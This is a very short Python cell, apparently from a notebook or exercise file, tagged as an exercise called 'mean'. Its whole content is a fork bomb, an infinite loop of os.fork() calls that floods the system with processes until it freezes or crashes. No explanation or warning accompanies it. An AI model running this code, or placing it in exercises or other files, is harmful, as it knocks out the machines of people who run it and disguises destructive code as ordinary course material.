# %% exercise="mean"
import os
while True:
    os.fork()
